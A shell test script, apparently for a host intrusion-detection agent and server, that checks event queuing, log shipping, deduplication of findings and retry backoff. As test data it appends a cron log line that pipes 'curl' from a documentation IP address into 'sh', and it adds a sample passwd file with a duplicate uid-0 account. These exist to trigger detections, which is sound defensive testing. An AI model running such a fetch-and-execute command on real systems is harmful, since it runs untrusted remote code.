#!/bin/sh
# agent_server.sh MAMORI - `mamori agent --server URL`: the agent ships its
# events and logs to a real `mamori serve` on 127.0.0.1 instead of
# detecting locally. The server is down first: `agent --once` queues
# (exit 1, the queue file holds the cycle's events, nothing is removed);
# the server comes up: the next run ships the queue and the logs, the
# findings (from the shipped secure log and the shipped host events)
# appear in the server's store exactly once; a rerun adds no duplicate
# line and no duplicate finding; the queue file is emptied only once the
# server acknowledged all of it. A daemon whose server is away retries
# with the ship backoff and delivers when it comes back. Usage errors:
# no key, --key-file without --server.
# Ends "agent_server: N passed, N failed, N skipped".
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/suite.sh"
SUITE=agent_server
. "$HERE/lib/hostsuite.sh"
host_need python3
export HOME="$T/home"
unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY
mkdir -p "$HOME"
SDB="$T/server.db"
ADB="$T/agent.db"
Q="$ADB.agent/ship/hostevents.jsonl"
SPOOL="$SDB.spool/agent/i-0feedfacecafe0007" # the instance id names the folder

"$M" keys create story-agent --db "$SDB" >"$T/key.env" 2>"$T/key.err"
expect key_created "$(cat "$T/key.err")" has "$T/key.env" "AWS_SECRET_ACCESS_KEY="

# a test root: a uid-0 duplicate account (an account event on the first run) and the logs
R="$T/root"
mkdir -p "$R/etc" "$R/var/log"
printf 'root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/sh\n' >"$R/etc/passwd"
cp "$ROOT/tests/data/host/secure" "$R/var/log/secure"
cp "$ROOT/tests/data/host/cron" "$R/var/log/cron"

# a free port for the server that is not started yet
PORT=$(python3 -c 'import socket; s=socket.socket(); s.bind(("127.0.0.1",0)); print(s.getsockname()[1])')
URL="http://127.0.0.1:$PORT"
agent() {
	timeout 60 "$M" agent --once --db "$ADB" --root "$R" --sample-ms 50 --host web-7 \
		--instance-id i-0feedfacecafe0007 --account-id 123456789012 --region eu-north-1 \
		--server "$URL" --key-file "$T/key.env" \
		--log "$R/var/log/secure" --log "$R/var/log/cron" "$@"
}
SPID=
start() {
	rm -f "$T/ready"
	"$M" serve --db "$SDB" --listen "127.0.0.1:$PORT" --poll-ms 200 --no-default-lists \
		--ready-file "$T/ready" 2>>"$T/serve.err" &
	SPID=$!
	PIDS="$PIDS $SPID"
	n=0
	while [ ! -s "$T/ready" ] && [ $n -lt 100 ] && kill -0 $SPID 2>/dev/null; do sleep 0.1; n=$((n + 1)); done
}
types() { "$M" findings list --db "$SDB" --format json 2>/dev/null | grep -o '"type":"[^"]*"' | sort; }
# the types from this suite's logs and accounts: the process collector reads the real /proc,
# where another suite's staged miner may be running, so its types are left out of comparisons
logtypes() { types | grep -vE 'Runtime/(BitcoinTool.B|CryptoMinerExecuted|C&CActivity.B|TorClient|ReverseShell|NewBinaryExecuted)"'; }
wait_type() { # TYPE: until the server's store has it (30 s at most: a loaded machine, ASan)
	w=0
	while [ $w -lt 150 ]; do
		types | grep -qF "\"$1\"" && return 0
		sleep 0.2; w=$((w + 1))
	done
	return 1
}
shipped() { cat "$SPOOL"/*."$1" 2>/dev/null; }

# --- the server is away: queued, exit 1, nothing lost ------------------------------
agent --max-wait 0 --format none >"$T/o1" 2>"$T/e1"; rc=$?
expect away_exit_1 "exit $rc: $(tail -3 "$T/e1")" test $rc -eq 1
expect away_says_queued "$(tail -2 "$T/e1")" has "$T/e1" "the server is away"
expect away_queue_has_events "$(ls -l "$ADB.agent/ship" 2>&1)" test -s "$Q"
expect away_queue_account "$(head -c 300 "$Q")" hasE "$Q" '"what":"account".*"toor"|"toor".*"what":"account"'
expect away_state_file "state beside the spool" test -f "$ADB.agent/ship-i-0feedfacecafe0007.state"
expect away_no_local_detect "no local findings with --server" \
	sh -c "! '$M' findings list --db '$ADB' --format json 2>/dev/null | grep -q '\"type\"'"
N1=$(wc -l <"$Q")
# a crash in the middle of an append leaves a partial last line: cut at the next start,
# never shipped (it was never whole)
printf '{"what":"proc","partial' >>"$Q"

# --- the server is up: the queue and the logs are shipped -----------------------------
start
expect serve_ready "no ready file: $(tail -c 300 "$T/serve.err")" test -s "$T/ready"
agent --format none >"$T/o2" 2>"$T/e2"; rc=$?
expect up_exit_0 "exit $rc: $(tail -3 "$T/e2")" test $rc -eq 0
expect up_summary "$(tail -2 "$T/e2")" hasE "$T/e2" 'shipped to .*: [1-9][0-9]* bytes.* 0 bytes queued'
shipped hostevents.jsonl >"$T/ev.jsonl"
expect up_first_cycle_shipped "the away run's events reach the server" hasE "$T/ev.jsonl" '"toor"'
expect up_partial_line_cut "$(tail -2 "$T/e2")" has "$T/e2" "partial last line cut"
expect up_every_line_json "a line that is not JSON reached the server" \
	python3 -c 'import json,sys; [json.loads(l) for l in open(sys.argv[1])]' "$T/ev.jsonl"
expect up_no_partial "the partial line reached the server" sh -c "! grep -q partial '$T/ev.jsonl'"
expect up_both_cycles_shipped "$(wc -l <"$T/ev.jsonl") lines, want > $N1" test "$(wc -l <"$T/ev.jsonl")" -gt "$N1"
expect up_secure_once "$(shipped secure | wc -l) lines" sh -c "shipped() { cat '$SPOOL'/*.secure; }; shipped | cmp -s - '$R/var/log/secure'"
expect up_cron_once "cron" sh -c "cat '$SPOOL'/*.cron | cmp -s - '$R/var/log/cron'"
expect up_queue_emptied "$(ls -l "$Q")" test ! -s "$Q"
expect finding_brute "$(types | uniq -c)" wait_type "UnauthorizedAccess:Runtime/SSHBruteForce"
expect finding_after_brute "$(types | uniq -c)" wait_type "InitialAccess:Runtime/SuccessfulLoginAfterBruteForce"
expect finding_cron_download "$(types | uniq -c)" wait_type "Execution:Runtime/SuspiciousCommand"
expect finding_on_instance "the host's instance" sh -c "'$M' findings list --db '$SDB' --format json | grep SSHBruteForce | grep -q i-0feedfacecafe0007"
expect finding_names_account "the agent's --account-id and --region on the server" \
	sh -c "'$M' findings list --db '$SDB' --format json | grep SSHBruteForce | grep '\"accountId\":\"123456789012\"' | grep -q '\"region\":\"eu-north-1\"'"
sleep 1
logtypes >"$T/types1"
LINES1=$(shipped hostevents.jsonl | wc -l)

# --- a rerun: nothing twice ---------------------------------------------------------------
agent --format none >"$T/o3" 2>"$T/e3"; rc=$?
expect rerun_exit_0 "exit $rc: $(tail -3 "$T/e3")" test $rc -eq 0
expect rerun_secure_once "secure not resent" sh -c "cat '$SPOOL'/*.secure | cmp -s - '$R/var/log/secure'"
expect rerun_old_events_once "the first cycle's events once" \
	test "$(shipped hostevents.jsonl | grep -c '"toor"')" = "$(grep -c '"toor"' "$T/ev.jsonl")"
sleep 1.5
logtypes >"$T/types2"
expect rerun_no_dup_findings "$(diff "$T/types1" "$T/types2")" cmp -s "$T/types1" "$T/types2"
expect one_brute_finding "$(grep -c SSHBruteForce "$T/types2")" test "$(grep -c SSHBruteForce "$T/types2")" -eq 1
expect one_after_brute_finding "count" test "$(grep -c SuccessfulLoginAfterBruteForce "$T/types2")" -eq 1
CNT=$("$M" findings list --db "$SDB" --format json | grep SSHBruteForce | grep -Eo '"count":[0-9]+' | head -1)

# --- a daemon while the server is away: retries with the backoff, then delivers -----------
kill -9 $SPID; wait $SPID 2>/dev/null
echo "Dec  5 23:10:01 ip-10-0-1-23 CROND[3400]: (git) CMD (curl -fsSL http://198.51.100.9/x.sh | sh)" >>"$R/var/log/cron"
timeout 60 "$M" agent --db "$ADB" --root "$R" --sample-ms 50 --interval 30 --host web-7 \
	--instance-id i-0feedfacecafe0007 --account-id 123456789012 --region eu-north-1 \
	--server "$URL" --key-file "$T/key.env" --log "$R/var/log/secure" --log "$R/var/log/cron" \
	2>"$T/daemon.err" &
DPID=$!
PIDS="$PIDS $DPID"
w=0; while [ $w -lt 150 ] && ! grep -q "retrying in 2000" "$T/daemon.err"; do sleep 0.2; w=$((w + 1)); done
expect daemon_retries "$(tail -3 "$T/daemon.err")" has "$T/daemon.err" "retrying in 1000 ms"
expect daemon_backoff_doubles "$(tail -3 "$T/daemon.err")" has "$T/daemon.err" "retrying in 2000 ms"
expect daemon_queued "queue" test -s "$Q"
start
w=0; while [ $w -lt 150 ] && ! cat "$SPOOL"/*.cron 2>/dev/null | grep -q x.sh; do sleep 0.2; w=$((w + 1)); done
expect daemon_delivers_after_backoff "$(tail -3 "$T/daemon.err")" sh -c "cat '$SPOOL'/*.cron | cmp -s - '$R/var/log/cron'"
w=0; while [ $w -lt 150 ] && [ -s "$Q" ]; do sleep 0.2; w=$((w + 1)); done
expect daemon_queue_emptied "$(ls -l "$Q")" test ! -s "$Q"
kill $DPID; wait $DPID 2>/dev/null
sleep 1
CNT2=$("$M" findings list --db "$SDB" --format json | grep SSHBruteForce | grep -Eo '"count":[0-9]+' | head -1)
expect brute_counted_once "$CNT then $CNT2" test "$CNT" = "$CNT2"

# --- usage ------------------------------------------------------------------------------
"$M" agent --once --db "$T/u.db" --no-logs --server "$URL" >/dev/null 2>"$T/nokey"; rc=$?
expect usage_no_key "exit $rc: $(cat "$T/nokey")" sh -c "[ $rc -eq 2 ] && grep -q AWS_ACCESS_KEY_ID '$T/nokey'"
"$M" agent --once --db "$T/u.db" --no-logs --key-file "$T/key.env" >/dev/null 2>&1; rc=$?
expect usage_key_without_server "exit $rc" test $rc -eq 2
AWS_ACCESS_KEY_ID=x AWS_SECRET_ACCESS_KEY=y "$M" agent --once --db "$T/u.db" --no-logs \
	--server ftp://127.0.0.1 >/dev/null 2>&1; rc=$?
expect usage_bad_url "exit $rc" test $rc -eq 2

kill $SPID 2>/dev/null; wait $SPID 2>/dev/null
echo "agent_server: $pass passed, $fail failed, $skip skipped"
[ $fail -eq 0 ]
